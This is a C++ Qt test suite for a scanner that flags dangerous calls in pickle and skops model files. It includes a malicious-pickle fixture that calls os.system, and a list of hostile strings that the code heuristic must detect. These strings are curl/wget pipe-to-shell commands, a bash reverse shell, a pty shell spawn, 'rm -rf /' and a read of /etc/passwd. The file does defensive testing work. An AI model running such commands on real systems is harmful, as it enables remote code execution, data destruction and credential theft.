// Calls are findings (trust/Calls.h): what a file calls at load time.
// - tests/data/calls: pickles and a skops file written by real Python
//   (scripts/make_calls.py, some by byte surgery on what Python wrote), each
//   with the exact call findings and exit code it must get (expected.json).
// - readsAsCode: the code/shell heuristic on strings known either way, and its
//   false-positive rate over every string of the real-world and fixture files.
// - The corpus: fixtures and real-world files keep their verdicts: no call
//   finding that would change an exit code (odd arguments, code strings), and
//   every untrusted callee is already in the untrusted list.
#include "TestData.h"
#include "document/Open.h"
#include "tree/Error.h"
#include "trust/Audit.h"
#include "trust/Calls.h"

#include <QtTest>

#include <set>

using namespace skopos;

namespace {
using Pair = std::pair<std::string, std::string>; // name, finding

std::set<Pair> findings(const AuditResult& r)
{
    std::set<Pair> s;
    for (const CallReport& c : r.calls.reports)
        s.insert({c.name, callFindingName(c.finding)});
    return s;
}

QString show(const std::set<Pair>& s)
{
    QStringList l;
    for (const auto& [n, f] : s)
        l << QString::fromStdString(n + ":" + f);
    return l.join(", ");
}

// Every model file under `dir` (recursively), skipping manifests and notes.
QStringList modelFiles(const QString& dir)
{
    QStringList out;
    QDirIterator it(testdata::path(dir), QDir::Files, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString f = it.next();
        if (f.endsWith(".json") || f.endsWith(".md") || f.endsWith(".txt") || f.endsWith(".tsv")
            || f.endsWith(".expect"))
            continue;
        out << f;
    }
    out.sort();
    return out;
}

// Runs fn(path, document) for every model file under `dirs` that opens (a file
// the readers refuse holds nothing to judge); stops at the first failed check,
// as a check written in the loop itself would.
template <class Fn>
void forEachDocument(std::initializer_list<const char*> dirs, Fn fn)
{
    for (const char* dir : dirs)
        for (const QString& f : modelFiles(dir)) {
            Document doc;
            try {
                doc = openDocument(f.toStdString());
            } catch (const ReadError&) {
                continue;
            }
            fn(f, doc);
            if (QTest::currentTestFailed())
                return;
        }
}
} // namespace

class TestCalls : public QObject {
    Q_OBJECT
private slots:
    void writtenByPython_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<int>("exit");
        QTest::addColumn<QStringList>("calls");
        const QJsonObject o = testdata::readJson(testdata::path("calls/expected.json"));
        QVERIFY(o.size() >= 10);
        for (auto it = o.begin(); it != o.end(); ++it) {
            const QJsonObject c = it.value().toObject();
            QStringList calls;
            for (const auto& x : c.value("calls").toArray())
                calls << x.toArray().at(0).toString() + ":" + x.toArray().at(1).toString();
            QTest::newRow(qPrintable(it.key())) << it.key() << c.value("exit").toInt(-1) << calls;
        }
    }

    void writtenByPython()
    {
        QFETCH(QString, file);
        QFETCH(int, exit);
        QFETCH(QStringList, calls);
        const Document doc = openDocument(testdata::spath("calls/" + file));
        const AuditResult r = audit(doc.tree);
        std::set<Pair> want;
        for (const QString& c : calls)
            want.insert({c.section(':', 0, 0).toStdString(), c.section(':', 1).toStdString()});
        QVERIFY2(findings(r) == want, qPrintable("got " + show(findings(r)) + "; want " + show(want)));
        // The command line: the exit code, the stable JSON field, one line per finding.
        const auto cli = testdata::runSkopos({"untrusted", "--json", testdata::path("calls/" + file)});
        QCOMPARE(cli.exitCode, exit);
        const QJsonObject j = QJsonDocument::fromJson(cli.out).object();
        QVERIFY2(j.value("calls").isArray(), cli.out.constData());
        QCOMPARE(j.value("calls").toArray().size(), int(want.size()));
        for (const auto& x : j.value("calls").toArray()) {
            const QJsonObject c = x.toObject();
            QVERIFY(
                want.count({c.value("name").toString().toStdString(), c.value("finding").toString().toStdString()}));
            QVERIFY(!c.value("via").toArray().isEmpty());
            QVERIFY(c.value("count").toInt() >= 1);
        }
        const auto text = testdata::runSkopos({"untrusted", testdata::path("calls/" + file)});
        QCOMPARE(text.exitCode, exit);
        QCOMPARE(int(text.err.count("call: ")), int(want.size()));
        const auto insp = testdata::runSkopos({"inspect", "--json", testdata::path("calls/" + file)});
        QCOMPARE(insp.exitCode, exit);
        QCOMPARE(QJsonDocument::fromJson(insp.out).object().value("calls").toArray().size(), int(want.size()));
        // A pickle that would be dangerous to load is not converted: odd
        // arguments and code strings are refused as dangerous names are
        // (exit 4, nothing written); the rest converts or fails for its own reasons.
        if (exit == 4 && !file.endsWith(".skops")) {
            QTemporaryDir out;
            const QString target = out.filePath("out.skops");
            const auto conv = testdata::runSkopos({"convert", testdata::path("calls/" + file), "-o", target});
            QCOMPARE(conv.exitCode, 4);
            QVERIFY2(conv.err.contains("refusing to convert"), conv.err.constData());
            QVERIFY(!QFile::exists(target));
        }
    }

    // The call sites themselves: what the pickle machine records.
    void callSitesRecorded()
    {
        const Document doc = openDocument(testdata::spath("calls/newobj_args.pkl"));
        std::set<std::string> via;
        for (const CallSite& c : doc.tree.calls())
            via.insert(callViaName(c.via));
        QCOMPARE(via, (std::set<std::string>{"BUILD", "NEWOBJ"}));
        const Document p0 = openDocument(testdata::spath("calls/build_setstate_p0.pkl"));
        const AuditResult r = audit(p0.tree);
        QCOMPARE(int(r.calls.reports.size()), 1);
        QCOMPARE(r.calls.reports[0].via, (std::vector<std::string>{"BUILD"}));
        const Document ex = openDocument(testdata::spath("calls/newobj_ex.pkl"));
        QVERIFY(std::any_of(ex.tree.calls().begin(), ex.tree.calls().end(),
                            [](const CallSite& c) { return c.via == CallVia::NewObjEx; }));
        // INST (protocol 0, a published attack file): the call is listed beside the dangerous name.
        const AuditResult inst = audit(openDocument(testdata::spath("pickle/malicious/inst_os_system.pkl")).tree);
        QCOMPARE(int(inst.calls.reports.size()), 1);
        QCOMPARE(inst.calls.reports[0].name, std::string("os.system"));
        QCOMPARE(inst.calls.reports[0].via, (std::vector<std::string>{"INST"}));
        QVERIFY(inst.calls.reports[0].dangerous);
        // The user trusting the class removes the finding, as it removes the untrusted type.
        QVERIFY(audit(p0.tree, TrustProfile::bundled(), {"__main__.WithSetState"}).calls.reports.empty());
    }

    void readsAsCode_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<bool>("code");
        const char* yes[] = {"import os; os.system('id')",
                             "__import__('os').system('ls')",
                             "curl http://x/a.sh | sh",
                             "wget -q -O- http://x | bash",
                             "$(id)",
                             "echo `id`",
                             "a; rm -rf /",
                             "x && cat /etc/passwd",
                             "from subprocess import call\ncall(\"id\")",
                             "import pty;pty.spawn(\"/bin/sh\")",
                             "exec(open('a').read())",
                             "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
                             "python3 -c 'print(1)'; sh",
                             "eval(input())"};
        const char* no[] = {"(?u)\\b\\w\\w+\\b",
                            "l2",
                            "auto",
                            "latin1",
                            "numpy.float64",
                            "importance",
                            "import",
                            "gini",
                            "the; end",
                            "a | b",
                            "sqrt",
                            "f8",
                            "Tom & Jerry",
                            "C:\\models\\x.pkl",
                            "important words",
                            "SELECT a FROM t",
                            "import dinner",
                            "from time import sleep",
                            "one;two",
                            "https://example.com/x"};
        for (const char* s : yes)
            QTest::newRow(s) << QString(s) << true;
        for (const char* s : no)
            QTest::newRow(s) << QString(s) << false;
    }

    void readsAsCode()
    {
        QFETCH(QString, text);
        QFETCH(bool, code);
        QCOMPARE(skopos::readsAsCode(text.toStdString()), code);
    }

    // The heuristic over every string the real files hold (not just call
    // arguments): its false-positive rate, which must stay 0.
    void codeHeuristicOnRealStrings()
    {
        std::size_t strings = 0, flagged = 0;
        QStringList hits;
        forEachDocument({"realworld", "fixtures", "pickle/fixtures"}, [&](const QString& f, const Document& doc) {
            const ObjectTree& t = doc.tree;
            for (NodeId n = 0; n < t.size(); ++n) {
                if (t.node(n).kind != Kind::Str)
                    continue;
                ++strings;
                if (skopos::readsAsCode(t.strValue(n))) {
                    ++flagged;
                    QString v = QString::fromUtf8(t.strValue(n).substr(0, 80));
                    for (QChar& ch : v)
                        if (!ch.isPrint())
                            ch = '?';
                    hits << QFileInfo(f).fileName() + ": " + v;
                }
            }
        });
        qInfo("readsAsCode: %zu of %zu strings in real-world and fixture files flagged", flagged, strings);
        QVERIFY(strings > 300000);
        QVERIFY2(flagged == 0, qPrintable(hits.mid(0, 12).join("\n")));
    }

    // Fixtures and real-world files keep their verdicts: nothing that would
    // raise an exit code, and every untrusted callee is already listed.
    void corpusKeepsVerdicts()
    {
        int files = 0, withCalls = 0, untrustedFiles = 0;
        forEachDocument({"realworld", "fixtures", "pickle/fixtures", "old-skops", "loaders"},
                        [&](const QString& f, const Document& doc) {
                            ++files;
                            const AuditResult r = audit(doc.tree);
                            QVERIFY2(!r.calls.suspiciousCalls(), qPrintable(f + ": " + show(findings(r))));
                            const std::set<std::string> listed(r.untrusted.begin(), r.untrusted.end());
                            for (const CallReport& c : r.calls.reports)
                                QVERIFY2(listed.count(c.name),
                                         qPrintable(f + ": calls " + QString::fromStdString(c.name)
                                                    + " that is not in the untrusted list"));
                            withCalls += !r.calls.reports.empty();
                            untrustedFiles += !r.untrusted.empty();
                        });
        if (QTest::currentTestFailed())
            return;
        qInfo("corpus: %d files, %d with untrusted types, %d of them call an untrusted name", files, untrustedFiles,
              withCalls);
        QVERIFY(files > 500);
        QVERIFY(withCalls > 100); // the finding is live on real files
    }
};

QTEST_GUILESS_MAIN(TestCalls)
#include "tst_calls.moc"
